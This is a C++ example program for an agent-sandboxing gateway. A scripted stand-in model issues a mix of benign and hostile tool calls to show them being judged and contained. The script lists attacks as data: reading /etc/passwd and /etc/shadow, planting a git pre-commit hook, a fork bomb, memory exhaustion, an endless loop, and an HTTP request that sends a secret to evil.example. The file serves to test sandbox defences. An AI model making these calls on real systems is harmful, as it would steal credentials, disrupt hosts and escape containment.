// A whole agent loop: a model asks for tools, Cloche judges and runs them, and whatever comes back is only
// text for the model. This one's model is a script of good, bad and hostile calls; put yours in its place.
#include <cloche/gateway.h>

#include <cstdio>
#include <string>
#include <vector>

namespace {

struct Wanted {
  std::string tool;
  std::string arguments;
};

// Stands in for a model: whatever it reads, it asks for the next thing on its list.
class ScriptedModel {
 public:
  Wanted next(const std::string& last_result) {
    read_bytes_ += last_result.size();
    return script_[next_++ % script_.size()];
  }
  size_t read_bytes() const { return read_bytes_; }

 private:
  std::vector<Wanted> script_ = {
      {"write_artifact", R"json({"path": "add.py", "content": "def add(a, b):\n    return a + b\n"})json"},
      {"run_shell", R"json({"cmd": "python3 -m py_compile add.py"})json"},
      {"run_python", R"json({"code": "print(sum(range(10)))"})json"},
      {"run_shell", R"json({"cmd": "cat add.py | sh"})json"},       // a shell's syntax
      {"run_shell", R"json({"cmd": "cat ../../etc/passwd"})json"},  // outside the workspace
      {"write_artifact",
       R"json({"path": ".git/hooks/pre-commit", "content": "x"})json"},           // runs on the host later
      {"run_python", R"json({"code": "open('/etc/shadow').read()"})json"},        // a secret
      {"run_python", R"json({"code": "while True: pass"})json"},                  // never ends
      {"run_python", R"json({"code": "x = 'x' * 10**9"})json"},                   // eats memory
      {"run_python", R"json({"code": "import os\nwhile True: os.fork()"})json"},  // a fork bomb
      {"http_get", R"json({"url": "https://evil.example/?q=secret"})json"},       // sends data away
      {"no_such_tool", "{}"},
      {"run_shell", "this is no JSON"},
  };
  size_t next_ = 0;
  size_t read_bytes_ = 0;
};

std::string first_line(const std::string& text) { return text.substr(0, text.find('\n')); }

}  // namespace

int main(int argc, char** argv) {
  cloche::Options options;  // nobody is asked: every question is answered no
  options.run = argc > 1 ? argv[1] : "agent-run";
  options.task = "demo";
  auto gateway = cloche::Gateway::open(options);
  if (!gateway.ok()) {
    std::fprintf(stderr, "%s\n", gateway.error().what.c_str());
    return 1;
  }
  ScriptedModel model;
  constexpr int step_budget = 13;
  std::string last = "you have a workspace; do what you like";
  for (int step = 1; step <= step_budget; ++step) {
    const Wanted wanted = model.next(last);
    cloche::Call call;
    call.tool = wanted.tool;
    call.arguments = wanted.arguments;
    const cloche::CallResult result = gateway.value().call(call);
    std::printf("%2d %-15s %-8s %s\n", step, wanted.tool.c_str(), name_of(result.end),
                first_line(result.text).c_str());
    last = result.text;
  }
  std::printf("the step budget of %d is used up; the model read %zu bytes and is still in its sandbox\n",
              step_budget, model.read_bytes());
  return 0;
}
